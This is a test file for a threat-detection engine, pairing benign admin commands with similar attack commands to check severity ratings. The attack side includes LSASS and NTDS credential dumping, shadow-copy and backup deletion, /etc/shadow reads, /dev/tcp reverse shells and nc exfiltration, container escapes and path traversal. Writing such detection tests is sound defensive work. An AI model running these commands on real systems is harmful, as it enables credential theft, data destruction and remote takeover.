/** Commands of upkeep beside the attacks that they resemble: critical rules tell them apart by what is dumped, kept, asked or started. */
import { describe, expect, test } from 'vitest';
import { detectThreats } from '../../../server/engine/threat/analyze.ts';
import { loadAttackTable } from '../../../server/engine/threat/attack/table.ts';
import { RuleSet } from '../../../server/engine/threat/rule-set.ts';
import { guardPack, knowledge, never, openThreatEngine, ruleFiles } from '../../support/threat-engine.ts';

const rules = new RuleSet();
rules.add(ruleFiles(`${guardPack}/rules`), 'built-in');
const analyzer = { rules, table: loadAttackTable(guardPack), knowledge };
/** Before the words are judged: what is critical here stays whatever they say. */
const isCritical = (text: string) => {
  const { findings, mentions } = detectThreats(text, analyzer);
  return findings.list().some(({ ruleId, level }) => level === 'critical' && !mentions.has(ruleId));
};

describe('critical', () => {
  test.each([
    ['procdump -accepteula -ma -h w3wp.exe D:\\Dumps\\', 'procdump64.exe -accepteula -ma lsass.exe l.dmp'],
    ['procdump -ma -e -x C:\\Dumps pool.exe', 'procdump -ma 624 C:\\temp\\l.dmp'],
    [
      'ntdsutil "activate instance ntds" files info quit quit',
      'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q',
    ],
    ['esentutl /mh C:\\Windows\\NTDS\\ntds.dit', 'esentutl /y C:\\Windows\\NTDS\\ntds.dit /d C:\\temp\\n'],
    [
      'vssadmin resize shadowstorage /for=D: /on=D: /maxsize=15%',
      'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB',
    ],
    ['vssadmin delete shadows /for=T: /oldest', 'vssadmin delete shadows /all /quiet'],
    ['wbadmin delete systemstatebackup -keepVersions:5', 'wbadmin delete systemstatebackup -keepVersions:0'],
    ['wmic shadowcopy list brief', 'wmic shadowcopy delete'],
    [
      'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time" C:\\IT\\w32time.reg /y',
      'reg export HKLM\\SYSTEM C:\\temp\\s.reg /y',
    ],
    [
      "kubectl debug node/worker-3 -it --image=busybox -- chroot /host journalctl -u kubelet --since '1 hour ago'",
      'kubectl debug node/worker-3 -it --image=busybox -- chroot /host journalctl -u kubelet; cat /host/etc/shadow',
    ],
    ['hashcat -b -m 0', 'hashcat -m 18200 hashes.txt words.txt'],
    [
      "timeout 2 bash -c '</dev/tcp/redis01/6379' && echo up",
      "bash -c 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'",
    ],
    ['(echo > /dev/tcp/db1/5432) && echo open', 'exec 5<>/dev/tcp/192.0.2.7/443; cat <&5 | sh'],
    [
      'docker run --privileged --rm vendor/binfmt --install all',
      'docker run --privileged -it alpine chroot /host sh',
    ],
    ['chroot /mnt/sysroot grub2-mkconfig -o /boot/grub2/grub.cfg', 'chroot /mnt /bin/bash'],
    ['mkfs.ext4 -L data /dev/nvme1n1', 'mkfs.ext4 /dev/nvme1n1'],
  ])('%s is not, %s is', (upkeep, attack) => {
    expect(isCritical(upkeep)).toBe(false);
    expect(isCritical(attack)).toBe(true);
  });

  test('an answer that is only set out is no program', () => {
    expect(isCritical('curl -s localhost:9200/_cluster/health | python3 -m json.tool')).toBe(false);
  });

  test('a word inside another is no key of a bucket', () => {
    expect(
      isCritical('{"action":"added","columns":{"cmdline":"tail -n 20 /var/ossec/logs/ossec.log"}}'),
    ).toBe(false);
  });
});

test('what is only told of is named as reported, and lessons say nothing', () => {
  const told = detectThreats(
    'All shadow copies of FS01 were deleted at 03:10 by an account nobody knows.',
    analyzer,
  );
  expect([...told.mentions]).toContain('sig-impact-recovery-told');
});

test('a whole script that a developer stores is no injection; one after a separator is', async () => {
  const engine = await openThreatEngine();
  const severityOf = async (content: string) => {
    const text = `POST /api/v4/projects/1/files HTTP/1.1\nHost: git.example.com\nContent-Type: application/json\n\n${JSON.stringify({ content })}`;
    return (await engine.methods.analyze({ text }, never)).severity;
  };
  const script =
    '#!/bin/bash\nset -e\ncurl -fsS https://example.com/ping\ndocker compose pull && docker compose up -d\n';
  expect(await severityOf(script)).toBe('low');
  expect(await severityOf(`x; ${script}cat /etc/passwd | nc 192.0.2.7 99`)).toBe('critical');
});

test.each([
  ['GET /docs/../docs/guide.html HTTP/1.1', 'informational'],
  ['GET /docs/../../docs/guide.html HTTP/1.1', 'high'],
  ['GET /docs/../conf/guide.html HTTP/1.1', 'high'],
  ['GET /docs/%2e%2e/docs/..%2f..%2fetc/hosts HTTP/1.1', 'high'],
])('a link relative to its own page climbs nowhere: %s', async (text, severity) => {
  const engine = await openThreatEngine();
  expect((await engine.methods.analyze({ text }, never)).severity).toBe(severity);
});

describe('told apart by what is shown', () => {
  const levels = (text: string) =>
    detectThreats(text, analyzer)
      .findings.list()
      .filter(({ source }) => source === 'sigma')
      .map(({ level }) => level);

  test('audits list the accounts without a password, attackers their hashes', () => {
    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow`)).toEqual([]);
    expect(levels(`awk -F: '{print $1":"$2}' /etc/shadow`)).toContain('high');
    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow | nc 203.0.113.5 4444`)).toContain('high');
    expect(levels(`awk -F: '($2==""){print $1}' /etc/shadow; cat /etc/shadow`)).toContain('high');
    for (const command of [
      `awk '{print $1}' /etc/shadow`,
      `awk -F'~' '{print $1}' /etc/shadow`,
      `awk -F: '{print $1} {print}' /etc/shadow`,
      `awk -F: '1; {print $1}' /etc/shadow`,
      `awk -F: 'system("id"){print $1}' /etc/shadow`,
      `awk -F: '{print $1}' /etc/shadow && perl -ne print /etc/shadow`,
    ])
      expect(levels(command)).toContain('high');
    expect(levels(`sudo awk -F: '$2=="" || $2=="!" {print $1}' /etc/shadow 2>/dev/null`)).toEqual([]);
  });

  test('a port behind the name of a host is no stream of a file', () => {
    const proc = (command: string) =>
      JSON.stringify({ EventID: 1, Image: 'C:\\Windows\\cmd.exe', CommandLine: command });
    expect(levels(proc('net mc.exe -> meet.example.net:443'))).not.toContain('medium');
    expect(levels(proc('cmd /c type C:\\Temp\\a.exe > C:\\Users\\Public\\readme.txt:a.exe'))).toContain(
      'medium',
    );
  });
});

test('an odd header hides no other', async () => {
  const engine = await openThreatEngine();
  const request = 'GET / HTTP/1.1\nHost: a.example\na=b: 1\nRange: bytes=0-18446744073709551615';
  const { findings } = await engine.methods.analyze({ text: request }, never);
  expect(findings.map(({ ruleId }) => ruleId)).toContain('web-protocol-range');
});
